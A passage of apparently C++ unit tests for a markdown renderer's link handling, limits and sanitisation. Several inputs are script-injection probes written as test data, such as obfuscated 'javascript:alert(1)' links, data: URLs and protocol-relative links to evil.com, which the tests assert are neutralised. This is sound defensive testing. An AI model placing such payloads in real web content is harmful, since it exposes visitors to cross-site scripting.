      "<a href=\"http://microco.sm/out/zz\" rel=\"nofollow\" target=\"_blank\">already</a></p>\n");
  EXPECT_EQ(result.links,
            (std::vector<std::string>{"http://other.com/page", "https://other.com/page",
                                      "http://noshort.com/x"}));
}

TEST(Markdown, TitleIsFourFifthsOfTheUrl) {
  // 20 characters → the first 16, then "...".
  EXPECT_EQ(html("[t](http://abc.de/fghijk)"),
            "<p><a href=\"http://abc.de/fghijk\" title=\"http://abc.de/fg...\" rel=\"nofollow\" "
            "target=\"_blank\">t</a></p>\n");
  EXPECT_EQ(html("[t](http://a.b \"mine\")"),
            "<p><a href=\"http://a.b\" title=\"http://a...\" rel=\"nofollow\" "
            "target=\"_blank\">t</a></p>\n");
}

TEST(Markdown, MailtoAndRelativeLinksKeptWithoutRel) {
  const auto result = render_markdown(
      "[m](mailto:a@b.com) a@b.com [r](/conversations/2 \"t\") [q](?page=2) [h](#top)",
      demo_context());
  EXPECT_EQ(result.html,
            "<p><a href=\"mailto:a@b.com\">m</a> <a href=\"mailto:a@b.com\">a@b.com</a> "
            "<a href=\"/conversations/2\" title=\"t\">r</a> <a href=\"?page=2\">q</a> <a "
            "href=\"#top\">h</a></p>\n");
  EXPECT_TRUE(result.links.empty());
}

TEST(Markdown, ProtocolRelativeLinksAreHttps) {
  EXPECT_EQ(html("[x](//evil.com/p) [y](/\\evil.com)"),
            "<p><a href=\"https://evil.com/p\" title=\"https://evil.co...\" rel=\"nofollow\" "
            "target=\"_blank\">x</a> <a href=\"https://evil.com\" title=\"https://evil....\" "
            "rel=\"nofollow\" target=\"_blank\">y</a></p>\n");
}

TEST(Markdown, ScriptLinksLoseTheirAnchor) {
  EXPECT_EQ(html("[click *me*](JaVa&#x09;Script:alert(1)) [d](data:text/html,x)"),
            "<p>click <em>me</em> d</p>\n");
  EXPECT_EQ(html("<javascript:alert(1)>"), "<p>javascript:alert(1)</p>\n");
}

TEST(Markdown, UrlsArePercentEncodedAndEscaped) {
  EXPECT_EQ(html("[x](<http://a.com/b c\"d'e>)"),
            "<p><a href=\"http://a.com/b%20c%22d&#39;e\" title=\"http://a.com/b%20c%2...\" "
            "rel=\"nofollow\" "
            "target=\"_blank\">x</a></p>\n");
}

TEST(Markdown, ImagesHaveClassIpAndNoEmptyAlt) {
  EXPECT_EQ(html("![a *b*](http://x.com/a.png \"t\") ![](/a.png)"),
            "<p><img class=\"ip\" src=\"http://x.com/a.png\" alt=\"a b\" title=\"t\" /> "
            "<img class=\"ip\" src=\"/a.png\" /></p>\n");
  EXPECT_EQ(html("![alt text](javascript:alert(1)) ![](data:image/png;base64,AA)"),
            "<p>alt text </p>\n");
}

TEST(Markdown, CallbacksAreCachedPerRender) {
  int lookups = 0;
  int shortenings = 0;
  MarkdownContext context = demo_context();
  context.find_profile = [&](std::string_view) -> std::optional<std::int64_t> {
    ++lookups;
    return 3;
  };
  context.shorten = [&](const std::string&) {
    ++shortenings;
    return "c"s;
  };
  const auto result = render_markdown("@x @X @x [a](http://o.com) [b](http://o.com)", context);
  EXPECT_EQ(lookups, 1);
  EXPECT_EQ(shortenings, 1);
  EXPECT_EQ(result.mentions, (std::vector<std::int64_t>{3}));
  EXPECT_EQ(result.links, (std::vector<std::string>{"http://o.com"}));
}

TEST(Markdown, DeepNestingIsCapped) {
  const std::string out = html(repeat(">", 1000) + " deep");
  std::size_t quotes = 0;
  for (std::size_t i = out.find("<blockquote>"); i != std::string::npos;
       i = out.find("<blockquote>", i + 1))
    ++quotes;
  EXPECT_LE(quotes, 64u);
  EXPECT_GE(quotes, 32u);
  EXPECT_NE(out.find("deep"), std::string::npos);
  EXPECT_TRUE(well_formed(out));
}

TEST(Markdown, ManyBracketsRenderAsText) {
  // Brackets past the opener limit are escaped: they still show as brackets, no backslash.
  std::string out = html(repeat("[", 100000) + " x");
  const std::string shy = "\xC2\xAD";
  for (auto at = out.find(shy); at != std::string::npos; at = out.find(shy, at))
    out.erase(at, shy.size());
  EXPECT_TRUE(out == "<p>" + repeat("[", 100000) + " x</p>\n") << out.substr(0, 200);
}

TEST(Markdown, OneMegabyteOfStars) {
  EXPECT_EQ(html(repeat("*", 1 << 20)), "<hr />\n");
  const std::string words = repeat("*a* ", 1 << 18);
  const std::string out = html(words);
  EXPECT_EQ(out.substr(0, 16), "<p><em>a</em> <e");
  EXPECT_TRUE(well_formed(out));
}

TEST(Markdown, HostileCorpus) {
  const auto corpus = hostile_corpus();
  ASSERT_GE(corpus.size(), 100u);
  const MarkdownContext contexts[] = {plain_context(), demo_context(), generous_context()};
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    for (const auto& context : contexts) {
      // The large inputs test the parser and the limits; one context is enough for them.
      if (corpus[i].size() > 65536 && &context != &contexts[0]) continue;
      const auto result = render_markdown(corpus[i], context);
      EXPECT_TRUE(harmless(result.html)) << "corpus entry " << i << ": " << corpus[i].substr(0, 120)
                                         << "\noutput: " << result.html.substr(0, 400);
    }
  }
}
